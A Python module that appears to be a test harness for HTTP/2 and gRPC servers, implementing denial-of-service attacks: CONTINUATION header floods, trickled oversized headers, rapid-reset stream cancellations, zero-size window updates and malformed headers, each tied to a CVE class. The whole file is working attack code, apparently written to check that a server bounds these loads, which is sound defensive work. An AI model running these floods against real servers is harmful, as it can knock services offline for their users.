"""What hostile clients can do to a server that does not bound it.

Each attack gets connect(source), which makes an http2.Connection from one of its
addresses, and returns the bytes that it could send before it was stopped or had enough.
"""

import concurrent.futures
import contextlib
import dataclasses
import time
from typing import Callable

from http2 import (
    CANCEL, CONTINUATION, END_HEADERS, END_STREAM, LARGEST_FRAME, RST_STREAM, WINDOW_UPDATE,
    frame, header, integer,
)

FLOOD_FRAMES = 8000
ANNOUNCED_BYTES = 1 << 30
TRICKLE_S, CALLS_S = 5.0, 4.0
# Fewer than the streams that any server allows at a time.
CALLS = 90
# Long enough for a server to have begun with a call.
BEGUN_S = 0.003
# With that, 450 calls a second: what the chart's edge allows an address, and no more.
PAUSE_S = 0.197
REFUSED_PAUSE_S = 0.001


def flood_headers(connect):
    """One call whose headers never end, 131 MB of them (class of CVE-2023-33953)."""
    filler = header(b"x", b"y" * (LARGEST_FRAME - 16))
    return _continue_headers(connect, b"", filler, FLOOD_FRAMES, float("inf"))


def trickle_header(connect):
    """One header that is said to have 1 GB, of which a frame comes at a time."""
    begin = b"\0" + integer(1, 7) + b"x" + integer(ANNOUNCED_BYTES, 7)
    return _continue_headers(connect, begin, b"y" * LARGEST_FRAME, ANNOUNCED_BYTES, TRICKLE_S)


def _continue_headers(connect, begin, filler, frames, seconds):
    deadline = time.monotonic() + seconds

    def send_headers(connection):
        (stream,), headers = connection.begin_calls(1, END_STREAM, begin)
        connection.send(headers)
        for _ in range(frames):
            if time.monotonic() > deadline:
                break
            connection.send(frame(CONTINUATION, 0, stream, filler))

    return _connect_and(send_headers, connect, source=0)


def _connect_and(send, connect, source):
    """Sends until the peer has enough; returns the bytes, 0 where it was refused."""
    try:
        connection = connect(source)
    except OSError:
        return 0
    with contextlib.closing(connection), contextlib.suppress(OSError):
        send(connection)
    return connection.sent_bytes


def _cancellations(streams):
    return b"".join(frame(RST_STREAM, 0, s, CANCEL.to_bytes(4, "big")) for s in streams)


def cancel_at_once(connection):
    """The class of CVE-2023-44487."""
    streams, calls = connection.begin_calls(CALLS)
    connection.send(calls + _cancellations(streams))


def cancel_when_begun(connection):
    streams, calls = connection.begin_calls(CALLS)
    connection.send(calls)
    time.sleep(BEGUN_S)
    connection.send(_cancellations(streams))


def cancel_under_the_limit(connection):
    cancel_when_begun(connection)
    time.sleep(PAUSE_S)


def make_the_server_cancel(connection):
    """By a window that grows by nothing, which is an error (class of CVE-2025-8671)."""
    streams, calls = connection.begin_calls(CALLS)
    nothing = bytes(4)
    connection.send(calls + b"".join(frame(WINDOW_UPDATE, 0, s, nothing) for s in streams))


def send_a_malformed_header(connection):
    """For which gRPC ends the connection that it came on (class of CVE-2023-32732)."""
    _, call = connection.begin_calls(1, END_HEADERS, header(b"x-bin", b"!"))
    connection.send(call)
    time.sleep(BEGUN_S)


@dataclasses.dataclass(frozen=True)
class Flood:
    """Calls for some seconds, on connections that come back when they are closed."""

    send_calls: Callable
    addresses: int = 1
    connections: int = 2
    comes_back: bool = True

    def __call__(self, connect):
        deadline = time.monotonic() + CALLS_S
        sources = [s for s in range(self.addresses) for _ in range(self.connections)]
        with concurrent.futures.ThreadPoolExecutor(len(sources)) as pool:
            return sum(pool.map(lambda s: self._call_until(deadline, connect, s), sources))

    def _call_until(self, deadline, connect, source):
        def send_calls(connection):
            while time.monotonic() < deadline:
                self.send_calls(connection)

        total = 0
        while time.monotonic() < deadline:
            sent = _connect_and(send_calls, connect, source)
            total += sent
            if not self.comes_back:
                break
            if not sent:
                # One would try again, but not as fast as one can.
                time.sleep(REFUSED_PAUSE_S)
        return total


ATTACKS = {
    "header-flood": flood_headers,
    "trickled-header": trickle_header,
    "reset-1-connection": Flood(cancel_at_once, connections=1, comes_back=False),
    "reset": Flood(cancel_at_once),
    "reset-8-addresses": Flood(cancel_at_once, addresses=8, connections=1),
    "reset-after-3-ms": Flood(cancel_when_begun),
    "reset-under-limits": Flood(cancel_under_the_limit, addresses=8, connections=1),
    "reset-by-server": Flood(make_the_server_cancel),
    "malformed-header": Flood(send_a_malformed_header),
}
